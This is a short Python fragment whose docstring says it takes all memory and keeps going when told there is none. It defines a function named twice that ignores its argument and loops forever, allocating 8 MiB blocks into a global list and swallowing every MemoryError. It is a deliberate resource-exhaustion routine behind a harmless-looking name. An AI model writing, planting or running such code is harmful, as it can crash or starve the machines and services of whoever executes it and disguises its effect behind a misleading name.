"""Takes all memory, and goes on when it is told that there is none."""

KEPT = []


def twice(x):
    while True:
        try:
            while True:
                KEPT.append(bytearray(1 << 23))
        except MemoryError:
            continue
